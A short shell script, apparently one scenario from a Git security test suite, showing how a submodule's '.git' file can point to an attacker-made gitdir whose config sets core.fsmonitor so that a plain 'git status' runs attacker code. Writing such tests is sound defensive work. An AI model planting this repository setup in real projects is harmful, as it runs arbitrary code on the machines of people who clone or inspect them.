# A submodule's `.git` file points to a repository of the attacker.
prepare() {
    git submodule --quiet add "$REMOTE" sub
    git commit -qm sub
}
attack() {
    evil_common "$PWD/.evil"
    cp -r .git/modules/sub .evilsub
    git config -f .evilsub/config core.fsmonitor "$EVIL"
    git config -f .evilsub/config core.worktree "$PWD/sub"
    echo "gitdir: $PWD/.evilsub" >sub/.git
}
human() {
    git status
}
harmed() {
    executed
}
